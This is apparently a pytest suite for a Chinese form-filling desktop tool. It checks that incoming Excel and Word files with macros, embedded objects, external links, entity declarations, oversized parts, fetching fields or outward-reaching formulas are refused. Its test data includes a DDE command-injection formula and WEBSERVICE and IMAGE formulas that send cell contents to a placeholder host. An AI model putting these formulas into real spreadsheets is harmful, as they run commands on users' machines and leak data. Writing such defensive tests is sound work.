"""Files from outside: what is refused, each with a sentence that says what to do."""

import zipfile

import pytest
from openpyxl import Workbook

from fupin_desktop import template
from fupin_desktop.errors import FupinError
from fupin_desktop.template import guard

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@pytest.mark.parametrize(("name", "content", "advice"), [
    ("表.xls", OLE, r"另存为.*\.xlsx"), ("表.et", OLE, r"另存为.*\.xlsx"),
    ("告知书.doc", OLE, r"另存为.*\.docx"), ("告知书.wps", OLE, r"另存为.*\.docx"),
    ("表.xlsx", OLE, r"另存为 \.xlsx"),
    ("表.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "取消密码"),
    ("表.xlsx", b"PK\x03\x04 broken", "已损坏"), ("表.xlsx", b"<html></html>", "另存为"),
    ("表.xlsx", b"", "另存为"),
])  # fmt: skip
def test_other_kinds_of_file_get_a_sentence(tmp_path, name, content, advice):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(FupinError, match=advice):
        guard.kind_of(path)


def changed(path, target, **parts):
    """A copy of a packed file with some parts put in or replaced."""
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename not in parts:
                new.writestr(part, old.read(part))
        for name, content in parts.items():
            new.writestr(name, content)
    return target


RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="http://example.invalid/x" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(("parts", "said"), [
    ({"xl/vbaProject.bin": b"x"}, "宏"),
    ({"xl/embeddings/oleObject1.bin": b"x"}, "嵌入"),
    ({"xl/externalLinks/externalLink1.xml": b"<x/>"}, "外部数据"),
    ({"xl/activeX/activeX1.bin": b"x"}, "控件"),
    ({"xl/worksheets/_rels/sheet1.xml.rels": RELS.format("image")}, "外面"),
    ({"xl/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}, "不安全"),
    ({"xl/x.xml": "<a/>".encode("utf-16")}, "不安全"),
    ({"xl/x.xml": b" " * (11 << 20)}, "过大"),
    ({"xl/worksheets/sheet9.xml": b"<c r='A1'/>" * 100_001}, "过大"),
])  # fmt: skip
def test_macros_links_and_bombs_are_refused(village, form_of, tmp_path, parts, said):
    path = changed(form_of(), tmp_path / "怪.xlsx", **parts)
    with pytest.raises(FupinError, match=f"{said}.*没有填表"):
        template.read(village, path)


def test_a_link_to_click_is_no_harm(village, form_of, tmp_path):
    parts = {"xl/worksheets/_rels/sheet1.xml.rels": RELS.format("hyperlink")}
    assert template.read(village, changed(form_of(), tmp_path / "链.xlsx", **parts)).is_ready


@pytest.mark.parametrize("formula", [
    '=WEBSERVICE("http://example.invalid/?"&A1)', "=cmd|' /C calc'!A0", "=[1]Sheet1!A1",
    '=HYPERLINK("http://example.invalid/"&B2,"点我")', '=INDIRECT("x")',
    '=IMAGE("http://example.invalid/"&A1)',
])  # fmt: skip
def test_formulas_that_reach_outside_are_refused(village, form_of, formula):
    with pytest.raises(FupinError, match=r"公式.*没有填表"):
        template.read(village, form_of(H1=formula))


def test_usual_formulas_are_taken(village, form_of):
    assert template.read(village, form_of(H1='=IF(E5>6,"长期","短期")')).is_ready


@pytest.mark.parametrize(("name", "parts"), [
    ("word/_rels/settings.xml.rels", RELS.format("attachedTemplate")),
    ("word/embeddings/x.bin", "x"),
])  # fmt: skip
def test_documents_are_looked_at_as_well(village, word_of, tmp_path, name, parts):
    with pytest.raises(FupinError, match="没有填表"):
        template.read(village, changed(word_of(), tmp_path / "怪.docx", **{name: parts}))


def test_a_field_of_word_that_fetches_is_refused(village, word_of, tmp_path):
    with zipfile.ZipFile(word_of()) as archive:
        body = archive.read("word/document.xml").decode()
    fetch = '<w:r><w:instrText>INCLUDETEXT "c:/x"</w:instrText></w:r></w:p>'
    body = body.replace("</w:p>", fetch, 1)
    path = changed(word_of(), tmp_path / "域.docx", **{"word/document.xml": body})
    with pytest.raises(FupinError, match=r"域.*没有填表"):
        template.read(village, path)


def test_a_workbook_nobody_can_read_gets_a_sentence(village, form_of, tmp_path):
    path = changed(form_of(), tmp_path / "坏.xlsx", **{"xl/worksheets/sheet1.xml": b"<worksheet"})
    with pytest.raises(FupinError, match=r"读不懂.*没有填表"):
        template.read(village, path)


def test_a_far_cell_costs_nothing(village, tmp_path):
    book = Workbook()
    book.worksheets[0]["XFD1048576"] = "{{户主姓名}}"
    book.save(tmp_path / "远.xlsx")
    assert template.read(village, tmp_path / "远.xlsx").is_ready
